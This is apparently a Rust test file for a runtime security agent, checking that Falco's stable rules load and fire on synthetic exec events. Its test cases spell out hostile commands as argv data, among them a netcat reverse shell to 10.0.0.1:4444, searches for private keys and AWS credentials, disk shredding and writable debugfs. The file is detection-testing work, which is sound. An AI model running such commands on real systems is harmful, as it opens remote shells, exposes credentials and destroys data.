//! Compatibility with Falco's stable ruleset: it loads with zero errors, every exec rule is
//! evaluable, and synthetic execs fire them with Falco's names and priorities while
//! near-misses do not.

mod rules_support;

use rules_support::{default_rules, engine, fired, load_ok, stable_rules};
use youwatch_agent::{
    detection::{Origin, Priority, Subject},
    event::{EnrichedExec, ExeOrigin},
    rules::{RuleMatching, Status, Unsupported, sample::Exec},
};

/// /dev/pts/0
const PTS0: u32 = 34816;

#[test]
fn stable_ruleset_loads_with_zero_errors() {
    let set = load_ok(&[stable_rules()]);
    assert_eq!(set.infos.len(), 25);
    let evaluable: Vec<&str> = set
        .infos
        .iter()
        .filter(|i| i.status == Status::Evaluable)
        .map(|i| i.name.as_str())
        .collect();
    assert_eq!(
        evaluable,
        [
            "Run shell untrusted",
            "System user interactive",
            "Terminal shell in container",
            "Netcat Remote Code Execution in Container",
            "Search Private Keys or Passwords",
            "Remove Bulk Data from Disk",
            "Debugfs Launched in Privileged Container",
            "Find AWS Credentials",
            "Execution from /dev/shm",
            "Drop and execute new binary in container",
            "Fileless execution via memfd_create",
        ]
    );
    // Every other rule needs another event type, and says so in one warning.
    assert!(
        !set.infos
            .iter()
            .any(|i| matches!(i.status, Status::Unsupported(Unsupported::Needs(_)))),
        "no stable exec rule lacks a field"
    );
    let other_events = set
        .infos
        .iter()
        .filter(|i| matches!(i.status, Status::Unsupported(Unsupported::EventTypes(_))))
        .count();
    assert_eq!(other_events, 14);
    assert_eq!(set.unsupported_warnings().len(), 14);
}

/// Each exec-based stable rule: an event that fires it (and nothing else), with Falco's
/// name and priority, and near-misses that fire nothing.
#[test]
fn exec_rules_fire_with_falco_names_and_priorities() {
    let engine = engine(&[stable_rules()], RuleMatching::All);
    let cases = [
        (
            "Terminal shell in container",
            Priority::Notice,
            Exec::new(["bash"])
                .ancestor(["containerd-shim", "-namespace", "k8s.io"])
                .tty(PTS0)
                .pod("shop", "juice-shop-6f7d9")
                .build(),
        ),
        (
            "Run shell untrusted",
            Priority::Notice,
            Exec::new(["sh", "-c", "id"])
                .ancestor(["/usr/sbin/nginx", "-g", "daemon off;"])
                .ancestor(["containerd-shim"])
                .container("web", "docker.io/library/nginx:1.27")
                .build(),
        ),
        (
            "System user interactive",
            Priority::Informational,
            Exec::new(["ls", "/etc"])
                .ancestor(["-bash"])
                .ancestor(["sshd", "-D"])
                .user(33, "www-data")
                .build(),
        ),
        (
            "Netcat Remote Code Execution in Container",
            Priority::Warning,
            Exec::new(["nc", "-e", "/bin/sh", "10.0.0.1", "4444"])
                .ancestor(["node", "app.js"])
                .container("app", "docker.io/bkimminich/juice-shop:v17.1.1")
                .build(),
        ),
        (
            "Search Private Keys or Passwords",
            Priority::Warning,
            Exec::new(["grep", "-r", "BEGIN RSA PRIVATE", "/"])
                .ancestor(["node", "app.js"])
                .build(),
        ),
        (
            "Remove Bulk Data from Disk",
            Priority::Warning,
            Exec::new(["shred", "-u", "/data/db.sqlite"])
                .ancestor(["node", "app.js"])
                .build(),
        ),
        (
            "Find AWS Credentials",
            Priority::Warning,
            Exec::new(["find", "/", "-path", "*/.aws/credentials"])
                .ancestor(["node", "app.js"])
                .build(),
        ),
        (
            "Debugfs Launched in Privileged Container",
            Priority::Warning,
            privileged(Exec::new(["debugfs", "-w", "/dev/sda1"]), true),
        ),
        (
            "Execution from /dev/shm",
            Priority::Warning,
            in_dir(
                Exec::new(["./kworker", "-d"])
                    .ancestor(["sh", "-c", "./kworker -d"])
                    .container("app", "docker.io/bkimminich/juice-shop:v17.1.1")
                    .build(),
                "/dev/shm/",
            ),
        ),
        (
            "Drop and execute new binary in container",
            Priority::Critical,
            from(
                Exec::new(["/tmp/xmrig"])
                    .ancestor(["sh"])
                    .container("app", "docker.io/bkimminich/juice-shop:v17.1.1")
                    .build(),
                ExeOrigin {
                    upper_layer: true,
                    ..ExeOrigin::default()
                },
            ),
        ),
        (
            "Fileless execution via memfd_create",
            Priority::Critical,
            from(
                Exec::new(["payload"])
                    .ancestor(["python3", "-c", "..."])
                    .build(),
                ExeOrigin {
                    memfd: true,
                    ..ExeOrigin::default()
                },
            ),
        ),
    ];
    for (rule, priority, exec) in cases {
        assert_eq!(
            fired(&engine, &exec),
            [(rule.to_owned(), priority)],
            "{rule}: {:?}",
            exec.process
        );
    }

    let near_misses = [
        // No terminal.
        Exec::new(["bash"])
            .ancestor(["containerd-shim"])
            .pod("shop", "juice-shop-6f7d9")
            .build(),
        // Terminal, but on the host.
        Exec::new(["bash"]).ancestor(["sshd"]).tty(PTS0).build(),
        // Terminal shell in a container, but started by another shell (not the entrypoint).
        Exec::new(["bash"])
            .ancestor(["bash"])
            .tty(PTS0)
            .container("app", "docker.io/library/app:1")
            .build(),
        // A shell under nginx, but the command line Falco knows as benign.
        Exec::new(["sh", "-c", "uname -a 2>&1"])
            .ancestor(["/usr/sbin/nginx"])
            .container("web", "docker.io/library/nginx:1.27")
            .build(),
        // A shell under a shell under nginx: the parent is a shell.
        Exec::new(["sh", "-c", "id"])
            .ancestor(["bash"])
            .ancestor(["/usr/sbin/nginx"])
            .build(),
        // An interactive command, but by root.
        Exec::new(["ls"])
            .ancestor(["-bash"])
            .ancestor(["sshd"])
            .build(),
        // netcat without -e/-c.
        Exec::new(["nc", "-zv", "10.0.0.1", "80"])
            .container("app", "docker.io/library/app:1")
            .build(),
        // netcat with -e, but on the host.
        Exec::new(["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]).build(),
        // grep for something else.
        Exec::new(["grep", "-r", "TODO", "/src"]).build(),
        // find, but not for keys.
        Exec::new(["find", "/", "-name", "credentials"]).build(),
        // rm is not shred.
        Exec::new(["rm", "-rf", "/data"]).build(),
        // debugfs in a container that is not privileged.
        privileged(Exec::new(["debugfs", "-w", "/dev/sda1"]), false),
        // ./x, but not in /dev/shm.
        in_dir(Exec::new(["./kworker"]).build(), "/tmp/"),
        // A binary from the image's layers.
        from(
            Exec::new(["/usr/bin/id"])
                .container("app", "docker.io/library/app:1")
                .build(),
            ExeOrigin {
                lower_layer: true,
                ..ExeOrigin::default()
            },
        ),
        // runc runs itself from a memfd (CVE-2019-5736 fix): known.
        from(
            Exec::new(["runc", "init"]).build(),
            ExeOrigin {
                memfd: true,
                ..ExeOrigin::default()
            },
        ),
    ];
    for exec in near_misses {
        assert!(
            fired(&engine, &exec).is_empty(),
            "near-miss fired: {:?} -> {:?}",
            exec.process,
            fired(&engine, &exec)
        );
    }
}

/// In a container whose spec says `privileged: <privileged>`.
fn privileged(exec: Exec, privileged: bool) -> EnrichedExec {
    let mut exec = exec
        .container("tools", "docker.io/library/debian:12")
        .build();
    if let Some(c) = exec.container.as_mut() {
        c.privileged = Some(privileged);
    }
    exec
}

/// With working directory `cwd` (Falco's form: ends in `/`).
fn in_dir(mut exec: EnrichedExec, cwd: &str) -> EnrichedExec {
    exec.event.cwd = Some(cwd.to_owned());
    exec
}

fn from(mut exec: EnrichedExec, origin: ExeOrigin) -> EnrichedExec {
    exec.event.exe_origin = Some(origin);
    exec
}

/// Falco's default rule_matching is `first`; with the defaults loaded before the stable
/// ruleset (the agent's order), the juice-shop rule wins for a shell in a juice-shop pod.
#[test]
fn defaults_and_stable_ruleset_together() {
    let all = engine(&[default_rules(), stable_rules()], RuleMatching::All);
    let first = engine(&[default_rules(), stable_rules()], RuleMatching::First);
    let exec = Exec::new(["bash"])
        .ancestor(["runc"])
        .tty(PTS0)
        .pod("shop", "juice-shop-6f7d9")
        .build();
    let names: Vec<String> = fired(&all, &exec).into_iter().map(|(n, _)| n).collect();
    assert_eq!(
        names,
        [
            "Shell spawned in Juice Shop pod",
            "Interactive terminal shell in container",
            "Shell started by container runtime in pod",
            "Terminal shell in container",
        ]
    );
    let detections = first.evaluate(&exec);
    assert_eq!(detections.len(), 1);
    let d = &detections[0];
    assert_eq!(d.rule, "Shell spawned in Juice Shop pod");
    assert_eq!(d.priority, Priority::Critical);
    assert_eq!(d.origin, Origin::Rules);
    assert!(
        d.output
            .starts_with("Shell spawned in Juice Shop pod | pod=juice-shop-6f7d9 ns=shop"),
        "{}",
        d.output
    );
    assert_eq!(d.output_fields["k8s.pod.name"], "juice-shop-6f7d9");
    assert_eq!(d.output_fields["proc.tty"], PTS0);
    let Subject::Pod(pod) = &d.subject else {
        panic!("{:?}", d.subject)
    };
    assert_eq!(
        (pod.namespace.as_str(), pod.name.as_str()),
        ("shop", "juice-shop-6f7d9")
    );
    assert!(pod.uid.is_some());
}

/// Outputs render fields exec events do not carry as <NA>, as Falco does.
#[test]
fn stable_outputs_render() {
    let engine = engine(&[stable_rules()], RuleMatching::First);
    let exec = Exec::new(["bash"])
        .ancestor(["containerd-shim"])
        .tty(PTS0)
        .user(0, "root")
        .container("app", "docker.io/library/app:1")
        .build();
    let d = engine.evaluate(&exec).remove(0);
    assert_eq!(
        d.output,
        "A shell was spawned in a container with an attached terminal | evt_type=execve user=root \
         user_uid=0 user_loginuid=-1 process=bash proc_exepath=/usr/bin/bash \
         parent=containerd-shim command=bash terminal=34816 exe_flags=<NA>"
    );
    // No login session: Falco says -1.
    assert_eq!(d.output_fields["user.loginuid"], -1);
    assert_eq!(
        d.tags,
        [
            "T1059",
            "container",
            "maturity_stable",
            "mitre_execution",
            "shell"
        ]
    );
}
